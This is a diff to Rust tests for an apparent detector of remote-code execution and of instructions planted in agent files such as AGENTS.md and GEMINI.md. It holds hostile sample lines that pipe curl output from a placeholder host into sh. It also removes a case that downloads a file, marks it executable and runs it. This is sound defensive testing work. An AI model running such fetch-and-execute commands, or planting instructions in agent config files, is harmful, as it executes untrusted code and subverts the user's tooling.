@@ -77,7 +77,6 @@ fn lines_in_tagged_templates_are_run_by_a_shell() {
     for code in [
         "import { $ } from 'zx'; await $`curl -s https://a.invalid/x | sh`;",
         "import { $ } from 'zx'; $({ quiet: true })`curl -s https://a.invalid/x | sh`;",
-        "import { $ } from 'zx'; const to = name(); await $`curl -s https://a.invalid/x -o ${to}`.nothrow(); await $`chmod 755 ${to}`; await $`${to}`;",
     ] {
         assert!(remote_code_of_line(code), "{code}");
     }
@@ -126,7 +125,7 @@ fn each_of_the_instructions_that_a_loop_writes_is_planted() {
             .iter()
             .any(|flow| flow.sink == SinkKind::Configuration)
     };
-    assert!(plants("'README', 'AGENTS.md', 'GEMINI.md', 'notes'"));
+    assert!(plants("'README', 'notes', 'AGENTS.md', 'GEMINI.md'"));
     assert!(!plants("'README', 'CHANGES', 'notes'"));
 }
 
